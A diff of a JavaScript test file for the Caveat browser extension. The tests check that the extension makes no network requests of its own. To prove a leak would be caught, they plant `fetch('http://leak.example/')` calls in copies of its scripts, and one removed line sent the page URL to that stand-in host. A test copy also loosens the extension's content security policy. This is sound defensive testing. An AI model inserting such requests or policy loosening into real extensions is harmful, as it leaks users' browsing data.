@@ -32,19 +32,17 @@ before(() => writeFileSync(join(idle, 'manifest.json'), JSON.stringify({
 after(() => rmSync(idle, { recursive: true, force: true }));
 
 /**
- * A browser without Caveat, for as long as it takes to ask for all of `hosts`, or for `limit`.
+ * A browser without Caveat, until it has asked for all of `hosts` or for 30 seconds: some of what it asks for comes late.
  * @param {string[]} hosts
- * @param {number} limit milliseconds
- * @returns {Promise<string[]>} the hosts it did not ask for
+ * @returns {Promise<string[]>} every host that was asked for
  */
-async function notAskedWithoutCaveat(hosts, limit) {
+async function askedWithoutCaveat(hosts) {
   const web = await startWeb();
   const session = await launch(browserName, { proxy: web.proxy, extension: idle, ...quiet });
-  const missing = () => hosts.filter((host) => !web.requests.includes(host));
   try {
     for (const article of articles) await session.newPage(`http://news.example/${article}`);
-    await until('the same hosts were asked for', () => missing().length === 0, limit).catch(() => {});
-    return missing();
+    await until('the same hosts were asked for', () => hosts.every((host) => web.requests.includes(host)), 30_000).catch(() => {});
+    return [...new Set(web.requests)];
   } finally {
     await session.close();
     await web.close();
@@ -65,9 +63,9 @@ async function askedWithCaveat(extension) {
       const [{ text }] = await awaitMarks(page);
       await hover(page, text);
       await openCard(session, page);
-      const popup = await session.popup(page);
-      await until('the popup has its list', () => popup.evaluate(() => document.querySelector('#marks li') !== null));
     }
+    const popup = await session.popup(await session.newPage(`http://news.example/${articles[0]}`));
+    await until('the popup has its list', () => popup.evaluate(() => document.querySelector('#marks li') !== null));
     await session.optionsPage();
     return [...new Set(web.requests)];
   } finally {
@@ -76,32 +74,30 @@ async function askedWithCaveat(extension) {
   }
 }
 
-test('with Caveat nothing is asked for that is not asked for without it', async () => {
+/**
+ * Caveat with a request in one of its scripts.
+ * @param {import('node:test').TestContext} t
+ * @param {string} file
+ */
+function leakingCopy(t, file) {
+  const copy = copyOfExtension();
+  t.after(() => copy.remove());
+  copy.edit(file, (code) => `${code}\nfetch('http://leak.example/').catch(() => {});\n`);
+  return copy;
+}
+
+test('with Caveat nothing is asked for that is not asked for without it, and a request of its own would be caught', async (t) => {
   const asked = await askedWithCaveat();
+  const leaked = await askedWithCaveat(leakingCopy(t, 'content/main.js').folder);
+  const without = await askedWithoutCaveat(asked);
   assert.ok(asked.includes('news.example'), 'requests are seen');
-  assert.deepEqual(await notAskedWithoutCaveat(asked, 30_000), []);
+  assert.deepEqual(asked.filter((host) => !without.includes(host)), []);
+  assert.ok(leaked.filter((host) => !without.includes(host)).includes('leak.example'));
 });
 
-test('a request of the content script would be seen', async (t) => {
-  const leaking = copyOfExtension();
-  t.after(() => leaking.remove());
-  leaking.edit('content/main.js', (code) => `fetch('http://leak.example/?' + location.href).catch(() => {});\n${code}`);
-  const asked = await askedWithCaveat(leaking.folder);
-  assert.ok(asked.includes('leak.example'));
-  assert.ok((await notAskedWithoutCaveat(asked, 1_000)).includes('leak.example'));
-});
-
-test('a request of the background is refused by the browser', async (t) => {
-  const leaking = copyOfExtension();
-  t.after(() => leaking.remove());
-  leaking.edit('background/main.js', (code) => `${code}\nfetch('http://leak.example/').catch(() => {});\n`);
+test('a request of the background is refused by the browser, and would be seen if it were not', async (t) => {
+  const leaking = leakingCopy(t, 'background/main.js');
   assert.ok(!(await askedWithCaveat(leaking.folder)).includes('leak.example'));
-});
-
-test('a request of the background would be seen if the browser let it pass', async (t) => {
-  const leaking = copyOfExtension();
-  t.after(() => leaking.remove());
-  leaking.edit('background/main.js', (code) => `${code}\nfetch('http://leak.example/').catch(() => {});\n`);
-  leaking.edit('manifest.json', (text) => text.replace("connect-src 'self'", 'connect-src http:'));
+  leaking.edit('manifest.json', (text) => text.replace("connect-src 'self'", "connect-src 'self' http:"));
   assert.ok((await askedWithCaveat(leaking.folder)).includes('leak.example'));
 });
